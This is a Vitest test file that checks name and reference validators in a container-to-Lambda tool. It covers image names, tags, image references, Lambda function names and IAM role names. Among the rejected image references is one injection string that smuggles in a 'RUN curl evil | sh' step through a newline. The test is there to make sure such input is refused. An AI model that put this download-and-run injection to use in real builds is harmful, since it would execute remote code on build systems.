import { describe, expect, it } from 'vitest';
import { isLambdashError } from '../../../src/core/common/errors.js';
import {
  toImageName,
  validateFunctionName,
  validateImageName,
  validateImageReference,
  validateRoleName,
  validateTag,
} from '../../../src/core/common/names.js';

describe('image names', () => {
  it.each([['orders-api'], ['team/orders_api'], ['a1'], ['x.y-z/w']])('accepts %j', (name) => {
    expect(validateImageName(name)).toBe(name);
  });

  it.each([
    ['Orders'],
    ['a'],
    ['-lead'],
    ['trail-'],
    ['a//b'],
    ['a b'],
    ['a:b'],
    ['x'.repeat(257)],
    ['a__-b'],
  ])('refuses %j with the rule', (name) => {
    try {
      validateImageName(name);
      expect.unreachable();
    } catch (error) {
      expect(isLambdashError(error, 'INVALID_NAME')).toBe(true);
      expect((error as { hint?: string }).hint).toMatch(/lower-case/);
    }
  });

  it.each([
    ['Hello World.ts', 'hello-world.ts'],
    ['@acme/Orders', 'acme/orders'],
    ['__x__', 'fn-x'],
    ['My_Handler', 'my_handler'],
    ['é', 'fn-responder'],
  ])('derives a valid name from %j', (text, expected) => {
    expect(toImageName(text)).toBe(expected);
  });
});

describe('tags', () => {
  it.each([['latest'], ['v1.2.3'], ['_x'], ['A'.repeat(128)]])('accepts %j', (tag) => {
    expect(validateTag(tag)).toBe(tag);
  });

  it.each([['.x'], ['-x'], [''], ['a'.repeat(129)], ['a b'], ['a/b']])('refuses %j', (tag) => {
    expect(() => validateTag(tag)).toThrow(/not a valid image tag/);
  });
});

describe('image references', () => {
  it.each([
    'node:20-slim',
    'lambdash/node-base:20.20.2',
    'registry.example.com:5000/team/base:1.2',
    'localhost:5000/x',
    `node@sha256:${'a'.repeat(64)}`,
  ])('accepts %j', (reference) => {
    expect(validateImageReference(reference)).toBe(reference);
  });

  it.each([
    'node:20\nRUN curl evil | sh',
    'node:20 AS x',
    'Node:20',
    'Not/Valid:Ref',
    '',
    '-x',
    'registry.example.com/team/base:1.2@sha256:zz',
  ])('refuses %j with a hint', (reference) => {
    try {
      validateImageReference(reference);
      expect.unreachable();
    } catch (error) {
      expect(isLambdashError(error, 'INVALID_NAME')).toBe(true);
      // A newline shows as \n: the message stays on its line.
      expect((error as Error).message).toBe(
        `"${reference.replace('\n', '\\n')}" is not a valid image reference.`,
      );
      expect((error as { hint?: string }).hint).toMatch(/node:20-slim/);
    }
  });
});

describe('Lambda function and IAM role names', () => {
  it.each([['orders-api'], ['Orders_API_2'], ['f'], ['f'.repeat(64)]])(
    'accepts function %j',
    (name) => {
      expect(validateFunctionName(name)).toBe(name);
    },
  );

  it.each([[''], ['has space'], ['team/api'], ['a.b'], ['f'.repeat(65)], ['arn:aws:lambda']])(
    'refuses function %j with INVALID_NAME and the rule',
    (name) => {
      expect(() => validateFunctionName(name)).toThrow(
        expect.objectContaining({
          code: 'INVALID_NAME',
          message: `"${name}" is not a valid Lambda function name.`,
          hint: expect.stringContaining('1 to 64 letters, digits, "-" or "_"'),
        }),
      );
    },
  );

  it.each([['lambdash-function'], ['a+b=c,d.e@f_g-h'], ['r'.repeat(64)]])(
    'accepts role %j',
    (name) => {
      expect(validateRoleName(name)).toBe(name);
    },
  );

  it.each([[''], ['has space'], ['a/b'], ['r'.repeat(65)], ['a:b']])(
    'refuses role %j with INVALID_NAME and the rule',
    (name) => {
      expect(() => validateRoleName(name)).toThrow(
        expect.objectContaining({
          code: 'INVALID_NAME',
          message: `"${name}" is not a valid IAM role name.`,
        }),
      );
    },
  );
});
